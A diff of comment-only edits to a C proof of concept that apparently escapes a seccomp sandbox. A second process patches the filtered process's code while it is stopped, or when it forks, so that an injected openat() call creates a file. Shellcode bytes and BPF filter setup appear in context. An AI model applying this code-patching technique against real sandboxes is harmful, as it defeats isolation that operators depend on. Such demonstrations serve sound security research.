@@ -1,8 +1,8 @@
 /*
- * A process that is killed for most system calls (seccomp(2)), and another
- * of the same user that is not, and changes the code of the first while that
- * stands still: so that who makes it run a call makes it create a file
- * instead.  With "clone" the code changes when the first has got a child.
+ * A process that is killed for most system calls (seccomp(2)), and a second one
+ * of the same user, which has no filter and changes the code of the first while
+ * that is stopped: a call injected into the first then creates FILE.  With
+ * "clone" the code changes when the first has a new child.
  *
  *	escape FILE [clone]
  */
@@ -21,21 +21,21 @@
 #include <time.h>
 
 enum {
-	EVIL = 0x80,		/* offset in the code */
+	EVIL = 0x80,		/* offset of the code that creates FILE */
 	NAME = 0x200,
 	STILL_US = 100,
 	BAD_US = 20000
 };
 
 static struct shared {
-	atomic_ulong	 rounds;	/* of the first */
+	atomic_ulong	 rounds;	/* made by the first */
 } *shared;
 
-static char *code;		/* as the second has it */
+static char *code;		/* mapped by the second */
 
 /*
- * What the first has: a call that returns, and pop %rax, ret.  Or a jump to
- * openat(AT_FDCWD, NAME, O_WRONLY | O_CREAT, 0600), behind which it loops.
+ * The code of the first: syscall, ret; pop %rax, ret.  Or a jump to a call of
+ * openat(AT_FDCWD, NAME, O_WRONLY | O_CREAT, 0600), and an endless loop.
  */
 static const uint16_t good = 0x050f, bad = (EVIL - 2) << 8 | 0xeb;
 static const char rest[] = "\xc3\x58\xc3";
@@ -66,7 +66,7 @@ spin_us(long us)
 }
 
 /*
- * Whenever the first stands still, change its code to and fro.
+ * While the first is stopped, change its code all the time.
  */
 static void __attribute__((noreturn))
 change_still(void)
@@ -87,7 +87,7 @@ change_still(void)
 }
 
 /*
- * When the first has a child, change its code for a moment.
+ * When the first has a new child, change its code for a moment.
  */
 static void __attribute__((noreturn))
 change_child(pid_t first)
@@ -99,7 +99,7 @@ change_child(pid_t first)
 	snprintf(path, sizeof path, "/proc/%d/task/%d/children", first, first);
 	if ((fd = open(path, O_RDONLY)) == -1)
 		_exit(1);
-	/* this one is a child, too */
+	/* this process is the first child */
 	for (had = 0;; had = n) {
 		n = pread(fd, buf, sizeof buf, 0);
 		if (n > had && had != 0) {
@@ -113,7 +113,7 @@ change_child(pid_t first)
 static void
 filter_set(void)
 {
-#ifndef SYS_poll	/* then poll(3) makes this call */
+#ifndef SYS_poll	/* poll(3) makes this call here */
 #define SYS_poll SYS_ppoll
 #endif
 #define ALLOW(nr) BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, 1), \
@@ -136,7 +136,7 @@ filter_set(void)
 int
 main(int argc, char *argv[])
 {
-	/* above all else, so that it is found first */
+	/* above all other code, so that it is found first */
 	char *const high = (char *)0x7ffffffe0000;
 	struct pollfd p = { .fd = STDIN_FILENO, .events = POLLIN };
 	pid_t first;
@@ -156,7 +156,7 @@ main(int argc, char *argv[])
 	memcpy(code + 2, rest, sizeof rest - 1);
 	memcpy(code + EVIL, evil, sizeof evil - 1);
 	snprintf(code + NAME, PAGE - NAME, "%s", argv[1]);
-	(void)*(volatile char *)high;	/* it is there */
+	(void)*(volatile char *)high;	/* make it present */
 	switch (fork()) {
 	case -1:
 		err(1, "fork");
